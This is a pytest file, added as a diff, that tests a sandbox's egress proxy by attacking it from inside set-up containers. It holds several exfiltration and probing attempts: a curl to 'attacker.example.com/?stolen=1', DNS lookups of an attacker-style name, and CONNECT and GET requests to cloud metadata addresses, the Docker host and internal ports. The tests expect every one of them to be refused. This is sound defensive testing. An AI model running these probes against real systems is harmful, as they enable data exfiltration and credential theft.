@@ -1,0 +1,325 @@
+"""Attacks on the set-up network from inside set-up containers, on the real engine; and the proxy's life."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import socket
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from sandbox.egress import WINDOW_S, Allowed, Egress, networks
+from sandbox.engine import Engine
+from sandbox.environments import DockerSandbox
+from sandbox.errors import SetupFailed
+from sandbox.reaper import reap, remove_all
+from sandbox.spec import Plan, Step
+from tests.sandbox.conftest import CA_BUNDLE, PRIVATE_HOSTS, STATE
+from tests.sandbox.trees import tree
+
+pytestmark = pytest.mark.engine
+CHECK = Step("check", "true")
+SECRET = "the host's own secret"
+
+PROXIED = """
+import json, os, socket, sys
+from urllib.parse import urlsplit
+proxy = urlsplit(os.environ["HTTPS_PROXY"])
+def ask(head):
+    with socket.create_connection((proxy.hostname, proxy.port), 5) as asked:
+        asked.settimeout(20)
+        asked.sendall(head.encode() + b"\\r\\n\\r\\n")
+        return asked.recv(4096).decode()
+"""
+DIRECT = """
+import socket
+def reaches(address, port, device=None):
+    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as knocking:
+        knocking.settimeout(1.5)
+        try:
+            if device:
+                knocking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
+            knocking.connect((address, port))
+            knocking.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+            return knocking.recv(100) != b""
+        except OSError:
+            return False
+"""
+
+
+def look(sandbox: DockerSandbox, script: str, shell: str = "python {0}", image: str = "python") -> str:
+    """What a set-up step prints; it ends with an error, so that nothing is kept."""
+    end = "\nraise SystemExit(9)\n" if shell.startswith("python") else "\nexit 9\n"
+    recipe = Plan(image, (Step("look", script + end, shell),), CHECK, trust=uuid.uuid4().hex)
+    with pytest.raises(SetupFailed) as caught:
+        sandbox.prepare(recipe, tree())
+    assert caught.value.exit_code == 9, caught.value.log
+    return caught.value.log
+
+
+@pytest.fixture
+def egress(engine: Engine) -> Iterator[Egress]:
+    owner = f"tests-{uuid.uuid4().hex[:12]}"
+    yield Egress(engine, owner, Allowed(("pypi.org",)))
+    remove_all(engine, owner)
+    assert not networks(engine, f"heal.owner={owner}")
+
+
+def own_addresses() -> list[str]:
+    """The addresses by which this machine would speak to the world, where it has a route there."""
+    found = []
+    for family, far in ((socket.AF_INET, "198.51.100.1"), (socket.AF_INET6, "2001:db8::1")):
+        with socket.socket(family, socket.SOCK_DGRAM) as speaker, contextlib.suppress(OSError):
+            speaker.connect((far, 9))  # sends nothing
+            found.append(str(speaker.getsockname()[0]))
+    return found
+
+
+@pytest.fixture
+def host_server() -> Iterator[int]:
+    """A service of the host on all its addresses, as a database with a careless configuration would be."""
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(SECRET.encode())
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("0.0.0.0", 0), Answer)  # noqa: S104 - that is the attack
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield int(server.server_address[1])
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+def test_system_packages_by_http(sandbox: DockerSandbox) -> None:
+    """apt finds the mirror through the proxy, by plain HTTP, and installs a package from it."""
+    log = look(
+        sandbox, "apt-get -o Acquire::Languages=none update -qq && apt-get install -y -qq hello && hello", "bash -e {0}"
+    )
+    assert "Hello, world!" in log
+
+
+def test_other_hosts_are_refused_and_named(sandbox: DockerSandbox) -> None:
+    """A host that is not listed gets 403, and the failed set-up's log says which host that was and why."""
+    log = look(sandbox, "curl -sS https://attacker.example.com/?stolen=1 || true", "bash -e {0}")
+    assert "403" in log
+    assert "the egress proxy refused: attacker.example.com (not on the allow-list)" in log
+
+
+def test_refused_hosts_stay_with_the_environment(sandbox: DockerSandbox) -> None:
+    """An environment whose set-up was refused a host and went on says so in its notes, found again too."""
+    script = f"curl -sS https://telemetry.example.com || true # {uuid.uuid4().hex}"
+    recipe = Plan("python", (Step("install", script),), CHECK)
+    note = "the egress proxy refused: telemetry.example.com (not on the allow-list)"
+    assert sandbox.prepare(recipe, tree()).notes == (note,)
+    assert sandbox.prepare(recipe, tree()).notes == (note,)
+
+
+def test_refusals_are_told_apart(sandbox: DockerSandbox) -> None:
+    """Two set-ups at once are each told of their own refused hosts only."""
+    scripts = [f"for i in 1 2 3; do curl -sS https://{name}.example.com || true; done" for name in ("one", "two")]
+    with ThreadPoolExecutor(2) as pool:
+        one, two = pool.map(lambda script: look(sandbox, script, "bash {0}"), scripts)
+    assert "refused: one.example.com" in one
+    assert "refused: two.example.com" not in one
+    assert "refused: two.example.com" in two
+    assert "refused: one.example.com" not in two
+
+
+def test_ports_schemes_and_addresses_are_refused(sandbox: DockerSandbox, host_server: int) -> None:
+    """Through the proxy there is no other port, no plain HTTP to an index, no address, no metadata, no host service."""
+    asked = [
+        "CONNECT pypi.org:6379 HTTP/1.1", "CONNECT pypi.org:5432 HTTP/1.1", "CONNECT pypi.org:22 HTTP/1.1",
+        "GET http://pypi.org/simple/ HTTP/1.1", "CONNECT 169.254.169.254:443 HTTP/1.1",
+        "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", f"GET http://172.17.0.1:{host_server}/ HTTP/1.1",
+        "CONNECT 172.17.0.1:443 HTTP/1.1", "CONNECT metadata.google.internal:443 HTTP/1.1",
+        f"CONNECT localhost:{host_server} HTTP/1.1", "GET http://host.docker.internal/ HTTP/1.1",
+    ]  # fmt: skip
+    script = f"print(json.dumps([ask(head)[:12] for head in {asked!r}]), ask('CONNECT pypi.org:443 HTTP/1.1')[:12])"
+    log = look(sandbox, PROXIED + script)
+    assert log.count('"HTTP/1.1 403"') == len(asked), log
+    assert "] HTTP/1.1 200" in log
+
+
+def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: int, engine: Engine) -> None:
+    """No address answers directly: the internet's, the metadata service's, nor any of the host's own.
+
+    The host's service is asked on the network's gateway, on the engine's bridge, on the host's other addresses, with
+    the route and past it (by binding to the device), and through the proxy container's address on the bridge.
+    """
+    assert sandbox.egress is not None
+    gate = sandbox.egress.gate()
+    proxy = engine.client().containers.get(gate.container).attrs["NetworkSettings"]["Networks"]["bridge"]
+    host = [sandbox.egress.gateway(gate), str(proxy["Gateway"]), *own_addresses()]
+    targets = [(address, host_server) for address in host]
+    targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), (str(proxy["IPAddress"]), 3128)]
+    script = DIRECT + (
+        "from concurrent.futures import ThreadPoolExecutor\n"
+        f"ways = [(*target, device) for target in {targets!r} for device in (None, b'eth0')]\n"
+        "with ThreadPoolExecutor(20) as pool:\n"
+        "    print('REACHED', [way for way, yes in zip(ways, pool.map(lambda way: reaches(*way), ways)) if yes])\n"
+    )
+    assert "REACHED []" in look(sandbox, script)
+
+
+def test_names_do_not_resolve_inside(sandbox: DockerSandbox) -> None:
+    """No name is looked up for set-up, so no name can carry anything out: neither listed hosts' nor made-up ones."""
+    script = """
+import socket
+for name in ("pypi.org", "stolen-data.attacker.example.com"):
+    try:
+        print("RESOLVED", name, socket.getaddrinfo(name, 443))
+    except socket.gaierror:
+        print("UNKNOWN", name)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+    asking.settimeout(3)
+    question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pypi\\x03org\\x00\\x00\\x01\\x00\\x01"
+    asking.sendto(question, ("127.0.0.11", 53))
+    try:
+        print("ANSWERS", asking.recv(512)[6:8])
+    except OSError:
+        print("ANSWERS none")
+"""
+    log = look(sandbox, script)
+    assert log.count("UNKNOWN") == 2, log
+    assert "ANSWERS none" in log or "ANSWERS b'\\x00\\x00'" in log
+
+
+def test_garbage_does_not_end_the_proxy(sandbox: DockerSandbox) -> None:
+    """Floods of rubbish and half-open connections from a set-up container leave the proxy working for the next."""
+    script = (
+        PROXIED
+        + """
+held = []
+for number in range(120):
+    held.append(socket.create_connection((proxy.hostname, proxy.port), 5))
+    try:
+        held[-1].sendall(os.urandom(5000) if number % 2 else b"CONNECT ")
+    except OSError:
+        pass
+print("DONE")
+"""
+    )
+    assert "DONE" in look(sandbox, script)
+    assert "HTTP/1.1 200" in look(sandbox, PROXIED + "print(ask('CONNECT pypi.org:443 HTTP/1.1'))")
+
+
+def test_private_addresses_need_the_operators_word(sandbox: DockerSandbox, engine: Engine) -> None:
+    """A listed name with an inner address is refused; loopback stays refused even if it is named."""
+    made = DockerSandbox(
+        None, sandbox.owner, state_dir=STATE, allowed_hosts=("localhost", "*.corp.test"), private_hosts=("localhost",)
+    )
+    log = look(made, PROXIED + "print(ask('CONNECT localhost:443 HTTP/1.1'), ask('CONNECT a.corp.test:443 HTTP/1.1'))")
+    assert "403" in log
+    assert "refused: localhost (its address" in log
+    assert "502" in log
+    assert "refused: a.corp.test (its name does not resolve)" in log
+    made.engine.close()
+
+
+def test_open_network_only_when_asked_for(sandbox: DockerSandbox, host_server: int) -> None:
+    """With `setup_network` "open" there is no proxy, the host's service answers, and doctor says what that means."""
+    made = DockerSandbox(None, sandbox.owner, ca_bundle=CA_BUNDLE, state_dir=STATE, setup_network="open")
+    script = f"""
+import os
+from pathlib import Path
+routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()]
+gateway = next(bytes.fromhex(words[2])[::-1] for words in routes if words[1] == "00000000")
+print("PROXY", os.environ.get("HTTPS_PROXY"), "HOST", reaches(".".join(map(str, gateway)), {host_server}))
+"""
+    log = look(made, DIRECT + script)
+    assert "PROXY None HOST True" in log  # so the attacks above are real ones
+    (finding,) = [finding for finding in made.doctor() if finding.what == "set-up network"]
+    assert not finding.ok
+    made.engine.close()
+
+
+def test_no_step_no_network(sandbox: DockerSandbox, engine: Engine) -> None:
+    """A plan without set-up steps starts no proxy."""
+    owner = f"{sandbox.owner}-none"
+    made = DockerSandbox(None, owner, state_dir=STATE)
+    made.prepare(Plan("debian", (), CHECK), tree())
+    assert not engine.containers(f"heal.owner={owner}")
+    assert not networks(engine, f"heal.owner={owner}")
+    remove_all(engine, owner)
+    made.engine.close()
+
+
+def test_doctor_leaves_nothing(engine: Engine) -> None:
+    """Looking at the set-up network leaves no proxy and no network, and tells of both: gateway and package hosts."""
+    owner = f"tests-{uuid.uuid4().hex[:12]}"
+    made = DockerSandbox(None, owner, state_dir=STATE, private_hosts=PRIVATE_HOSTS)
+    findings = {finding.what: finding for finding in made.doctor()}
+    assert findings["set-up network"].ok
+    assert findings["package hosts"].ok
+    assert not engine.containers(f"heal.owner={owner}")
+    assert not networks(engine, f"heal.owner={owner}")
+    made.engine.close()
+
+
+def test_workers_that_ask_at_once_share_one_proxy(egress: Egress, engine: Engine) -> None:
+    """Of several workers that make the proxy at the same time one wins; the others use it and leave nothing."""
+    owner = egress._owner
+    workers = [egress, *(Egress(Engine(), owner, Allowed(("pypi.org",))) for _ in range(2))]
+    with ThreadPoolExecutor(4) as pool:
+        gates = set(pool.map(lambda worker: worker.gate(), [*workers, egress]))
+    for worker in workers[1:]:
+        worker._engine.close()
+    assert len(gates) == 1
+    assert set(engine.containers(f"heal.owner={owner}")) == {next(iter(gates)).container}
+    assert set(networks(engine, f"heal.owner={owner}")) == {next(iter(gates)).network}
+    started = time.monotonic()
+    assert egress.gate() in gates
+    assert time.monotonic() - started < 0.2
+
+
+def test_another_allow_list_another_proxy(egress: Egress, engine: Engine) -> None:
+    """A changed allow-list makes a new proxy and network; the old one's clients keep theirs."""
+    first = egress.gate()
+    second = Egress(engine, egress._owner, Allowed(("pypi.org", "more.example.org"))).gate()
+    assert first.container != second.container
+    assert first.network != second.network
+    assert egress.gate() == first
+
+
+def test_a_dead_proxy_is_replaced(egress: Egress, engine: Engine) -> None:
+    """A proxy that has ended, or was removed, is made again."""
+    first = egress.gate()
+    engine.client().containers.get(first.container).kill()
+    second = egress.gate()
+    assert second.container != first.container
+    assert set(networks(engine, f"heal.owner={egress._owner}")) == {second.network}
+
+
+def test_the_reaper_takes_a_proxy_only_when_its_time_is_over(egress: Egress, engine: Engine) -> None:
+    """For a whole window after the last set-up it may serve, the reaper leaves it; then container and network go."""
+    now = time.time()
+    gate = egress.gate()
+    owner = egress._owner
+    assert reap(engine, owner, now + WINDOW_S - 60).containers == 0
+    assert egress.gate() == gate
+    reaped = reap(engine, owner, now + 2 * WINDOW_S + 60)
+    assert (reaped.containers, reaped.networks) == (1, 1)
+
+
+def test_the_proxy_is_bound_by_its_container(egress: Egress, engine: Engine) -> None:
+    """The running proxy has no capability and does not route for its clients."""
+    gate = egress.gate()
+    script = "grep -E '^(CapBnd|NoNewPrivs)' /proc/1/status; cat /proc/sys/net/ipv4/ip_forward; id -u"
+    seen = engine.client().containers.get(gate.container).exec_run(["sh", "-c", script]).output
+    assert isinstance(seen, bytes)
+    assert seen.decode().split() == ["CapBnd:", "0" * 16, "NoNewPrivs:", "1", "0", "1000"]
+    log = engine.client().containers.get(gate.container).logs().decode().splitlines()
+    assert json.loads(log[0]) == {"ready": 3128}
